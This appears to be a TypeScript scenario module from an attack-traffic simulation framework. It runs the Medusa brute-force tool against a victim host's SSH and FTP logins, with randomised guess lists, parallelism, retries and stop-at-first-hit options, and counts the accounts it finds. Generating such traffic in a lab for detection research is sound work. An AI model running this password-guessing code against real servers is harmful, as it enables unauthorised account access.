// Password guessing against the victim's SSH and FTP servers with Medusa, a second brute-force
// tool beside hydra: parallel logins per host (-t), sometimes the empty password and the user
// name as password (-e ns), sometimes stopping at the first hit (-f), a retry count and a pause
// between retries, all drawn per run. A run that finishes its lists early moves on to fresh ones.
import type { Scenario, ScenarioContext, ScenarioResult } from "../scenario.ts";
import { Budget, firstErrorLine, runTool } from "./bounded.ts";
import { chance, intBetween, pick } from "./random.ts";
import { FTP_TARGET, guessLists, SSH_TARGET, type LoginTarget } from "./login-targets.ts";

async function runMedusa(target: LoginTarget, ctx: ScenarioContext): Promise<ScenarioResult> {
  const { rng } = ctx;
  const budget = new Budget(ctx.durationMs);
  const runs = intBetween(rng, 1, 3);
  const lists = guessLists(rng, ctx, target, runs, [80, 300], "medusa");
  // sshd throttles unauthenticated connections (MaxStartups 10): fewer parallel logins there.
  const tasks = target.service === "ssh" ? intBetween(rng, 2, 8) : intBetween(rng, 3, 16);
  const extras = chance(rng, 0.4) ? ["-e", pick(rng, ["n", "s", "ns"])] : [];
  const stopAtHit = chance(rng, 0.3);
  const retries = intBetween(rng, 0, 3);
  let checks = 0;
  let found = 0;
  let ran = 0;
  let stoppedByBudget = false;
  const problems: string[] = [];
  for (; ran < runs && budget.allows(2_000); ran++) {
    const argv = [
      "medusa", "-h", ctx.victimIp, "-n", String(target.port(ctx)), "-M", target.service, "-U", lists.userFile, "-P", lists.passwordFiles[ran]!,
      "-t", String(tasks), "-R", String(retries), "-r", String(intBetween(rng, 0, 2)), "-v", "6", "-b",
      ...(ran === 0 ? extras : []), ...(stopAtHit ? ["-f"] : []),
    ];
    ctx.log(`${argv.join(" ")} (${lists.users.length} users x ${lists.perRun} passwords)`);
    const run = await runTool(ctx, budget, argv, { maxMs: budget.remainingMs(), graceMs: 0 });
    const out = run.stdout + run.stderr;
    checks += (out.match(/^ACCOUNT CHECK:/gm) ?? []).length;
    found += (out.match(/^ACCOUNT FOUND:/gm) ?? []).length;
    if (run.killed) stoppedByBudget = true;
    else if (run.code !== 0) problems.push(firstErrorLine(run));
    await budget.pause(intBetween(rng, 500, 3_000));
  }
  const notes = [`${ran} runs of ${lists.users.length} users x ${lists.perRun} passwords, ${tasks} parallel logins, retries ${retries}${stopAtHit ? ", stop at first hit" : ""}, ${found} found`];
  if (stoppedByBudget) notes.push("last run stopped at the budget");
  if (problems.length > 0) notes.push(`errors: ${[...new Set(problems)].join(" | ")}`);
  return { actions: checks, note: notes.join(", ") };
}

export const MEDUSA_SCENARIOS: Scenario[] = [SSH_TARGET, FTP_TARGET].map((target) => ({
  id: `medusa-${target.service}`,
  label: target.label,
  tool: "medusa",
  ipv6: { unsupported: "Medusa 2.2 connects over AF_INET only (an IPv6 host becomes 255.255.255.255)" },
  description: `medusa ${target.service} password guessing (parallel logins, run-drawn lists and retries)`,
  run: (ctx) => runMedusa(target, ctx),
}));
